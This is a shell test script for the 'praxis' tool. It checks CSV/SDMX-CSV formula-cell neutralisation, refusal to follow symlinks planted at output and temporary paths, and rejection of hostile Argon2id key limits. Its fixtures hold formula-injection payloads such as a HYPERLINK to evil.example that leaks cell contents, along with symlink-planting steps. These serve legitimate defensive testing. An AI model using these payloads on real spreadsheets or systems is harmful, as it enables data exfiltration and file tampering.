# SPDX-License-Identifier: Apache-2.0
# outputs.sh — the files and cells praxis writes for people and their
# tools, as a hostile member or a hostile local user would attack them:
# CSV and SDMX-CSV cells that a spreadsheet would run as formulas; output
# files (export, report, feed export, network export) with symlinks planted
# at the target and at the old predictable temporary names; an export that
# fails half-way; Argon2id limits of protected key files (new keys at
# MODERATE, older INTERACTIVE files still open, hostile limits refused).
source "$(dirname "$0")/lib.sh"

A="$T/a"
px --data "$A" init --name outputs >/dev/null

# --- formula cells ---------------------------------------------------------------------------
cat >"$T/ind.json" <<'EOF'
{"code": "XX-DELTA", "version": 1, "name": {"en": "Change in waiting time"},
 "measure_type": "duration", "scale": {"min": -10, "max": 10, "higher_is_better": false},
 "unit": "-min"}
EOF
cat >"$T/b.csv" <<'EOF'
indicator,country,centre,service,period,value,n,ci_low,ci_high,method,source
XX-DELTA,KZ,"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",@SUM(1+1),2018,-3.5,12,-4.25,-2.75,questionnaire,+1
XX-DELTA,KZ,-Astana,Hall,2019,-1,5,,,questionnaire,Agency report
EOF
cat >"$T/case.json" <<'EOF'
{"title": {"en": "=HYPERLINK(\"http://evil.example/\",\"click\")"}, "summary": {"en": "s"},
 "country": "KZ", "stage": "idea", "centre": "@SUM(1+1)", "tags": ["+x", "ok"]}
EOF
px --data "$A" publish indicator "$T/ind.json" benchmark "$T/b.csv" case "$T/case.json" >/dev/null

px --data "$A" export --format csv >"$T/x.csv"
# text cells: a quote before the formula (inside the field's quotes)
grep -qF ',"'"'"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",'"'"'@SUM(1+1),' "$T/x.csv" \
    || { cat "$T/x.csv"; fail "csv: the centre or service formula is not neutralised"; }
grep -qF ",'+1,false,'-min," "$T/x.csv" || { cat "$T/x.csv"; fail "csv: source '+1' or unit '-min' not neutralised"; }
grep -qF ",KZ,'-Astana,Hall," "$T/x.csv" || fail "csv: centre '-Astana' not neutralised"
# numbers stay numbers
grep -qF ",2018,-3.5,12,-4.25,-2.75,," "$T/x.csv" || { cat "$T/x.csv"; fail "csv: a negative number was changed"; }
grep -qF ",2019,-1,5,,,," "$T/x.csv" || fail "csv: -1 was changed"
grep -qF ",Agency report," "$T/x.csv" || fail "csv: plain text was changed"
px --data "$A" export --format sdmx-csv >"$T/x.sdmx"
grep -qF 'PRAXIS:BENCHMARK(1.0),KZ,"'"'"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",'"'"'@SUM(1+1),XX-DELTA,2018,-3.5,'"'"'-min,A,12,-4.25,-2.75,questionnaire' \
    "$T/x.sdmx" || { cat "$T/x.sdmx"; fail "sdmx-csv: formulas not neutralised or numbers changed"; }
grep -qF "PRAXIS:BENCHMARK(1.0),KZ,'-Astana,Hall,XX-DELTA,2019,-1,'-min,A,5,,,questionnaire" "$T/x.sdmx" \
    || { cat "$T/x.sdmx"; fail "sdmx-csv: second row"; }
# the JSON export holds the text as published
px --data "$A" export --format json | grep -qF '"centre":"-Astana"' || fail "json: the text was changed"
# every other CSV praxis prints: the case's title, centre and tags
px --data "$A" cases --csv >"$T/cases.csv"
grep -qF ",'@SUM(1+1),,,\"'=HYPERLINK(\"\"http://evil.example/\"\",\"\"click\"\")\",en,'+x; ok," "$T/cases.csv" \
    || { cat "$T/cases.csv"; fail "cases --csv: title, centre or tags not neutralised"; }
pass "formula cells neutralised in CSV, SDMX-CSV and --csv; numbers and JSON untouched"

# --- output files ----------------------------------------------------------------------------
O="$T/files"
mkdir "$O"
printf 'precious\n' >"$T/victim"
only_regular() { # FILE: a regular file, not a symlink
    [ -f "$1" ] && [ ! -L "$1" ] || fail "$1 is not a regular file"
}
victim_intact() {
    [ "$(cat "$T/victim")" = precious ] || fail "$1: the write went through a planted symlink"
}

# a symlink at the target is replaced, never followed
ln -s "$T/victim" "$O/x.csv"
px --data "$A" export --format csv --out "$O/x.csv" 2>/dev/null
victim_intact "export --out"
only_regular "$O/x.csv"
cmp -s "$O/x.csv" "$T/x.csv" || fail "export --out wrote other bytes than standard output"
[ "$(stat -c %a "$O/x.csv")" = 644 ] || fail "export --out: mode $(stat -c %a "$O/x.csv"), wanted 644"

ln -s "$T/victim" "$O/all.feed"
px --data "$A" feed export "$O/all.feed" 2>/dev/null
victim_intact "feed export"
only_regular "$O/all.feed"
[ "$(px --data "$A" feed export 2>/dev/null | cmp - "$O/all.feed" && echo same)" = same ] \
    || fail "feed export FILE differs from feed export to standard output"

# symlinks planted at the old predictable temporary names: report used
# FILE.tmp<pid>, px_write_file (network export, genesis, keys) FILE.tmp.<pid>.
# `exec` keeps the subshell's pid, so the planted name is the one the
# command would have used.
( ln -s "$T/victim" "$O/r.html.tmp$BASHPID"
  exec "$PRAXIS" --data "$A" report --out "$O/r.html" ) >/dev/null
victim_intact "report"
only_regular "$O/r.html"
grep -q "Content-Security-Policy" "$O/r.html" || fail "report: not written"
[ "$(stat -c %a "$O/r.html")" = 644 ] || fail "report: mode $(stat -c %a "$O/r.html"), wanted 644"
( ln -s "$T/victim" "$O/genesis.json.tmp.$BASHPID"
  exec "$PRAXIS" --data "$A" network export "$O/genesis.json" ) >"$T/out.txt" 2>"$T/err" \
    || { cat "$T/err"; fail "network export refused to write beside a planted symlink"; }
victim_intact "network export"
only_regular "$O/genesis.json"
[ "$(stat -c %a "$O/genesis.json")" = 600 ] || fail "network export: mode $(stat -c %a "$O/genesis.json"), wanted 600"
grep -q '"network_key"' "$O/genesis.json" || fail "network export: no genesis written"

# whole or not at all: an export that fails after its header leaves the
# old file as it was and no temporary file behind
printf 'keep me\n' >"$O/old.csv"
before="$(ls -A "$O" | sort)"
expect_exit 1 px --data "$A" export --format csv --period 2018-13 --out "$O/old.csv"
[ "$(cat "$O/old.csv")" = "keep me" ] || fail "a failed export truncated or overwrote the old file"
[ "$(ls -A "$O" | sort)" = "$before" ] || { ls -A "$O"; fail "a failed export left a file behind"; }
expect_exit 1 px --data "$A" export --format csv --out "$T/no/such/dir/x.csv"
expect_err "cannot write .*/no/such/dir/x.csv"
pass "output files: planted symlinks not followed, modes 0644/0600, whole or not at all"

# --- Argon2id limits of protected keys ---------------------------------------------------------
printf 'a long passphrase\n' >"$T/pass"
chmod 600 "$T/pass"
export PRAXIS_PASSPHRASE_FILE="$T/pass"
limits() { "$PY" -c 'import json,sys; e=json.load(open(sys.argv[1]))["encrypted"]; print(e.get("kdf"), e.get("opslimit"), e.get("memlimit"))' "$1"; }
px --data "$T/m" init --name m --protect >/dev/null
[ "$(limits "$T/m/secret.key")" = "argon2id13 3 268435456" ] \
    || fail "a new protected key is not at MODERATE: $(limits "$T/m/secret.key")"
px --data "$T/i" init --name i --protect --kdf interactive >/dev/null
[ "$(limits "$T/i/secret.key")" = "argon2id13 2 67108864" ] || fail "--kdf interactive: $(limits "$T/i/secret.key")"
px --data "$T/m" publish case "$T/case.json" >/dev/null || fail "a MODERATE key does not open"
expect_exit 2 px --data "$T/x" init --kdf sensitive
expect_err "only with --protect"
expect_exit 2 px --data "$T/x" init --protect --kdf extreme
expect_err "interactive, moderate, sensitive"
[ ! -e "$T/x" ] || fail "a refused init left a data directory"

# a key file from before the limits were stored (INTERACTIVE) still opens
rewrite() { # FILE PYTHON: apply PYTHON to e (the "encrypted" object) and write FILE back
    "$PY" - "$1" "$2" <<'PY'
import json, os, sys
path, code = sys.argv[1], sys.argv[2]
doc = json.load(open(path))
e = doc["encrypted"]
exec(code)
os.chmod(path, 0o600)
open(path, "w").write(json.dumps(doc))
PY
}
rewrite "$T/i/secret.key" 'del e["opslimit"]; del e["memlimit"]'
px --data "$T/i" publish case "$T/case.json" >/dev/null || fail "an INTERACTIVE key without stored limits does not open"
# hostile limits are refused with a sentence, at once (never allocated)
cp -p "$T/i/secret.key" "$T/i/good.key"
rewrite "$T/i/secret.key" 'e["opslimit"] = 2; e["memlimit"] = 1 << 40'
start=$SECONDS
expect_exit 1 px --data "$T/i" publish case "$T/case.json"
expect_err "secret.key is refused: Argon2id limits opslimit 2, memlimit 1099511627776 are outside what praxis accepts"
expect_exit 1 timeout 20 "$PRAXISD" --data "$T/i"
expect_err "outside what praxis accepts"
[ $((SECONDS - start)) -lt 10 ] || fail "refusing hostile limits took $((SECONDS - start)) s"
cp -p "$T/i/good.key" "$T/i/secret.key"
rewrite "$T/i/secret.key" 'e["opslimit"] = 9; e["memlimit"] = 67108864'
expect_exit 1 px --data "$T/i" publish case "$T/case.json"
expect_err "opslimit 9, memlimit 67108864 are outside"
pass "Argon2id: new keys at MODERATE, --kdf, old INTERACTIVE files open, hostile limits refused"
echo "outputs: all passed"
